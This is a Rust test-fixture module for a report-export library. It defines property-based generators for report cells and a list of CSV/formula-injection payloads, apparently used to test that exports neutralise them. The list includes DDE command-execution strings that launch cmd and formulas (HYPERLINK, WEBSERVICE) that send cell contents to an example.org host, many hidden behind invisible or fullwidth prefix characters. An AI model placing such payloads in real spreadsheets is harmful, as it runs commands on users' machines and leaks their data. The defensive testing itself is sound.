//! Tables of every kind of column, with the texts that break exports.

use jiff::{Timestamp, civil};
use proptest::prelude::*;
use rust_decimal::Decimal;
use vyavs_domain::money::Currency;
use vyavs_render::{Cell, Column, Kind, Locale, Report};

pub(crate) fn dec(text: &str) -> Decimal {
    text.parse().expect("a decimal")
}

pub(crate) fn currency(code: &str) -> Currency {
    code.parse().expect("a code")
}

pub(crate) fn report(locale: &str) -> Report {
    let as_of = "2026-11-23T06:00:00Z".parse().expect("an instant");
    let mut report = Report::new("Wöchentlicher Bericht", as_of, Locale::new(locale).expect("a locale"));
    report.organization = "Ὀδύσσεια & Söhne".to_owned();
    report.scope = "Stores 1; =2".to_owned();
    report.filters = "without gift cards".to_owned();
    report.timezone = jiff::tz::TimeZone::get("Europe/Berlin").expect("a zone");
    report.gaps = vec!["Store 7 is closed".to_owned()];
    report
}

/// One column of every kind, with a fixed unit and with one per row.
pub(crate) fn columns() -> Vec<Column> {
    vec![
        Column::new("Text", Kind::Text),
        Column::new("Integer", Kind::Integer),
        Column::new("Decimal", Kind::Decimal),
        Column::new("Euro", Kind::Money(Some(currency("EUR")))),
        Column::new("Any money", Kind::Money(None)),
        Column::new("Share", Kind::Percent),
        Column::new("Weight", Kind::Quantity(Some("kg".to_owned()))),
        Column::new("Amount", Kind::Quantity(None)),
        Column::new("Day", Kind::Date),
        Column::new("Instant", Kind::Timestamp),
    ]
}

/// Words as people, importers and attackers write them.
pub(crate) fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => "[a-zA-Zäß łό,;\"'.]{0,20}",
        2 => "[=+\\-@\t\r\n\"',;| x1]{0,8}",
        1 => any::<String>(),
        1 => "[0-9]{1,14}",
        1 => "(_x00[0-9A-F]{2}_|&amp;|<b>|]]>){0,3}",
    ]
}

/// Numbers as tills and sensors make them: up to 12 digits, up to 6 after the point.
pub(crate) fn number() -> impl Strategy<Value = Decimal> {
    (-999_999_999_999_i64..=999_999_999_999, 0_u32..=6).prop_map(|(mantissa, scale)| Decimal::new(mantissa, scale))
}

pub(crate) fn day() -> impl Strategy<Value = civil::Date> {
    (1900_i16..=9998, 1_i8..=12, 1_i8..=28).prop_map(|(year, month, day)| civil::date(year, month, day))
}

pub(crate) fn instant() -> impl Strategy<Value = Timestamp> {
    (946_684_800_i64..=4_102_444_800).prop_map(|second| Timestamp::from_second(second).expect("in range"))
}

fn or_empty(cell: impl Strategy<Value = Cell<'static>> + 'static) -> BoxedStrategy<Cell<'static>> {
    prop_oneof![1 => Just(Cell::Empty), 9 => cell].boxed()
}

pub(crate) fn row() -> impl Strategy<Value = Vec<Cell<'static>>> {
    let any_currency = prop_oneof![Just("EUR"), Just("PLN"), Just("JPY")].prop_map(currency);
    let unit = prop_oneof![Just("kg"), Just("pcs"), Just("=1+1")];
    (
        or_empty(text().prop_map(Cell::from)),
        or_empty(any::<i64>().prop_map(Cell::from)),
        or_empty(number().prop_map(Cell::from)),
        or_empty(number().prop_map(|amount| Cell::money(amount, currency("EUR")))),
        or_empty((number(), any_currency).prop_map(|(amount, currency)| Cell::money(amount, currency))),
        or_empty(number().prop_map(Cell::Percent)),
        or_empty(number().prop_map(|weight| Cell::quantity(weight, "kg"))),
        or_empty((number(), unit).prop_map(|(value, unit)| Cell::quantity(value, unit))),
        or_empty(day().prop_map(Cell::from)),
        or_empty(instant().prop_map(Cell::from)),
    )
        .prop_map(|(a, b, c, d, e, f, g, h, i, j)| vec![a, b, c, d, e, f, g, h, i, j])
}

pub(crate) fn rows(
    count: impl Into<proptest::collection::SizeRange>,
) -> impl Strategy<Value = Vec<Vec<Cell<'static>>>> {
    proptest::collection::vec(row(), count)
}

/// What spreadsheets have been made to run, after OWASP's "CSV Injection" and the payload lists that quote it.
pub(crate) const FORMULAS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"open\")",
    "=WEBSERVICE(CONCATENATE(\"http://example.org/\",A1))",
    "=IMPORTXML(\"http://example.org\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{0}=1+1",
    "\u{b}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u{fe66}1+1",
    "\"=1+1",
    "\"\"=1+1",
    "'=1+1",
    "\",=1+1",
    "\";=1+1;\"",
    "Milk;=1+1",
    "Milk\t=1+1",
    "Milk|=1+1",
    "Milk\n=1+1",
    "Milk\r\n@SUM(1)",
    "Milk;\"=1+1\"",
    "Milk; =1+1",
    "-",
    "=",
    "+49 30 1234567; call",
    "-5;=1",
    "--5",
    "-5e3+A1",
];
